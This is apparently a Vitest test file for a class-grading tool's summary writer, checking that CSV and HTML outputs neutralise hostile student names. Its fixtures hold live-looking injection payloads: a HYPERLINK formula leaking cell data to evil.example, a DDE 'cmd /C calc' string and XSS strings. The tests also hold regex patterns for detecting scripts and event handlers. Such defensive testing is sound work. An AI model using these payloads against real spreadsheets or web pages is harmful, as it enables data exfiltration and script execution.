import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildClassSummary } from '../../../reports/grading/classSummary.ts';
import { renderSummaryHtml, scoreBins } from '../../../reports/grading/summaryHtml.ts';
import { csvField, summaryCsv, writeSummaryFiles } from '../../../reports/grading/summaryFiles.ts';
import { readCsv } from './csvReader.ts';
import { fakeGrade, writeStudentRun } from './fakeGrades.ts';

// summary.json, summary.csv and summary.html: the same class three ways. Display names are the students'
// own text: in the CSV a name must not become a formula, in the HTML not markup.

const root = mkdtempSync(join(tmpdir(), 'labdrill-summary-files-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const hostileNames = {
  s001: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  s002: "+1+cmd|' /C calc'!A0",
  s003: '-2+3',
  s004: '@SUM(1,2)',
  s005: '<img src=x onerror=alert(1)>',
  s006: '</title><script>alert(2)</script>',
  s007: 'Kim, "Minji"\nsecond line',
  s008: '\tTabbed',
} as const;

function classFolder(): { out: string; summary: ReturnType<typeof buildClassSummary> } {
  const out = mkdtempSync(join(root, 'class-'));
  const scores: Record<string, number> = { s001: 8, s002: 5, s003: 0, s005: 2, s006: 7, s007: 3 };
  for (const [id, alb] of Object.entries(scores)) {
    const s3 = Math.min(3, Math.max(0, alb - 5));
    writeStudentRun(
      out,
      id,
      fakeGrade({
        at: '2026-03-01T10:00:00.000Z',
        items: [
          { check: 'alb.round-robin', points: Math.min(5, alb), max: 5 },
          { check: 's3.website.public-read', points: s3, max: 3 },
        ],
      }),
    );
  }
  writeStudentRun(
    out,
    's008',
    fakeGrade({
      at: '2026-03-01T10:00:00.000Z',
      status: 'not-graded',
      reasons: ['alb.round-robin: aws.throttled, the grader may try again later', '<b>bold</b> reason'],
      items: [{ check: 'alb.round-robin', points: 0, max: 5, status: 'not-graded' }],
    }),
  );
  const summary = buildClassSummary({
    outDir: out,
    course: 'cloud-basics <2026>',
    rubric: 'lamp-alb-efs',
    students: Object.entries(hostileNames).map(([id, name]) => ({ id, name })),
    generatedAt: '2026-03-10T00:00:00.000Z',
  });
  return { out, summary };
}

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\t=1', "'\t=1"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['=a,"b"', '"\'=a,""b"""'],
    ['two\r\nlines', '"two\nlines"'],
    ['', ''],
  ])('writes %j as %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('writes numbers as numbers (a negative would not be text) and nothing for null', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(7.5)).toBe('7.5');
    expect(csvField(null)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
  });
});

describe('writeSummaryFiles', () => {
  const { out, summary } = classFolder();
  const files = writeSummaryFiles(out, summary);

  it('writes summary.json, summary.csv and summary.html and nothing else beside the folders', () => {
    expect(files).toEqual({
      json: join(out, 'summary.json'),
      csv: join(out, 'summary.csv'),
      html: join(out, 'summary.html'),
    });
    expect(JSON.parse(readFileSync(files.json, 'utf8'))).toEqual(summary);
    expect(
      readdirSync(out)
        .filter((name) => !/^s\d{3}$/.test(name))
        .sort(),
    ).toEqual(['summary.csv', 'summary.html', 'summary.json']);
  });

  it('writes an RFC 4180 CSV whose name cells cannot start a formula', () => {
    const text = readFileSync(files.csv, 'utf8');
    expect(text).toBe(summaryCsv(summary));
    const rows = readCsv(text);
    expect(rows[0]).toEqual([
      'id',
      'name',
      'status',
      'score',
      'max',
      'percent',
      'best_score',
      'best_max',
      'runs',
      'latest_at',
      'alb.round-robin',
      's3.website.public-read',
      'reasons',
    ]);
    expect(rows).toHaveLength(9);
    for (const row of rows) expect(row).toHaveLength(rows[0]!.length);
    const byId = new Map(rows.slice(1).map((row) => [row[0], row]));
    for (const [id, name] of Object.entries(hostileNames)) {
      const cell = byId.get(id)![1]!;
      if (/^[=+\-@\t]/.test(name)) expect(cell).toBe(`'${name}`);
      else expect(cell).toBe(name);
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(byId.get('s001')!.slice(2, 12)).toEqual([
      'graded',
      '8',
      '8',
      '100',
      '8',
      '8',
      '1',
      '2026-03-01T10:00:00.000Z',
      '5',
      '3',
    ]);
    expect(byId.get('s005')!.slice(2, 6)).toEqual(['graded', '2', '8', '25']);
    // Never graded: empty cells, not zeros.
    expect(byId.get('s004')!.slice(2, 12)).toEqual(['not-graded', '', '', '', '', '', '0', '', '', '']);
    expect(byId.get('s008')!.slice(2, 6)).toEqual(['not-graded', '', '', '']);
    expect(byId.get('s008')!.at(-1)).toBe(
      'alb.round-robin: aws.throttled, the grader may try again later | <b>bold</b> reason',
    );
  });

  it('writes an HTML page where hostile names and reasons are text, with no script and no remote anything', () => {
    const html = readFileSync(files.html, 'utf8');
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'">`,
    );
    expect(html).not.toMatch(/<script|<img|<iframe|<object|<embed|<link|<b>/i);
    expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;');
    expect(html).toContain('<title>labdrill class summary: cloud-basics &lt;2026&gt;</title>');
    expect(html).toContain('&lt;b&gt;bold&lt;/b&gt; reason');
    // Links only to the students' own reports, relative (a not-graded student's twice: table and reasons);
    // s004 has no folder and so no link.
    const links = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1]);
    expect([...new Set(links.filter((href) => href !== '#not-graded'))].sort()).toEqual(
      ['s001', 's002', 's003', 's005', 's006', 's007', 's008'].map((id) => `${id}/report.html`),
    );
    expect(html).toMatch(
      /<svg class="chart"[^>]*aria-labelledby="score-histogram-title score-histogram-desc"/,
    );
  });

  it('bins latest scores by tenths, 100% in the last bin, not-graded students in none', () => {
    // s001 8/8, s002 5/8, s003 0/8, s005 2/8, s006 7/8, s007 3/8.
    expect(scoreBins(summary.students)).toEqual([1, 0, 1, 1, 0, 0, 1, 0, 1, 1]);
    const html = renderSummaryHtml(summary);
    expect((html.match(/<rect /g) ?? []).length).toBe(6);
  });
});

describe('summary.html of a large class', () => {
  it('stays a bounded page: the points of students past the first 1,500 are left to summary.csv', () => {
    const items = Array.from({ length: 12 }, (_, i) => ({
      check: `check.${i}`,
      criterion: `Criterion ${i}`,
      status: 'earned' as const,
      points: 2,
      max: 2,
      firstPassedAt: '2026-03-01T00:00:00.000Z',
    }));
    const students = Array.from({ length: 3_000 }, (_, i) => ({
      id: `s${String(i).padStart(4, '0')}`,
      name: `Student ${i}`,
      status: 'graded' as const,
      score: 24,
      max: 24,
      reasons: [],
      items,
      best: { score: 24, max: 24, at: '2026-03-01T00:00:00.000Z' },
      latest: { at: '2026-03-01T00:00:00.000Z', status: 'graded' as const },
      runs: 1,
      folder: `s${String(i).padStart(4, '0')}/`,
    }));
    const html = renderSummaryHtml({
      schema: 'labdrill.summary/1',
      course: 'big',
      rubric: 'r',
      generatedAt: 'now',
      students,
    });
    expect(html).toContain('The points of 1500 more students are in summary.csv.');
    expect(Buffer.byteLength(html)).toBeLessThan(8 * 1024 * 1024);
    expect(scoreBins(students)).toEqual([0, 0, 0, 0, 0, 0, 0, 0, 0, 3_000]);
  });

  it('draws an empty chart with its axes and says so when nobody is graded yet', () => {
    const html = renderSummaryHtml({
      schema: 'labdrill.summary/1',
      course: 'empty',
      rubric: 'r',
      generatedAt: 'now',
      students: [],
    });
    expect(html).toContain('No student is graded yet.');
    expect(html).not.toContain('<rect');
    expect(html).not.toContain('Points per item');
  });
});
